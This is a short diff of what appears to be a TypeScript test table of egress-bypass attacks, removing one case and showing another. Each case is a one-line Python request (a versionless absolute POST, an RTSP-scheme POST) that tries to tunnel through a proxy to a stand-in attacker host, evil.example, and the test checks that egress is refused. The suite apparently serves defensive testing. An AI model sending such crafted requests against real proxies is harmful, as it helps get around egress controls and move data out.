@@ -108,14 +108,6 @@ export const tunnels: AttackTable = {
     },
     {
       row: 12,
-      name: "a request without a version, absolute, in plain",
-      python: String.raw`talk(tcp(HOST, 80), f"POST http://{EVIL}/\r\nHost: {EVIL}\r\n\r\n")`,
-      succeeded: saw("host", /\.evil\.example/),
-      told: /egress_refused/,
-      rule: /malformed-request|authority-mismatch/,
-    },
-    {
-      row: 12,
       name: "a request of RTSP, which servers of HTTP take too",
       python: String.raw`talk(tls(HOST), f"POST rtsp://{HOST}/ RTSP/1.0\r\nHost: {EVIL}\r\n\r\n")`,
       succeeded: saw("host", /\.evil\.example/),
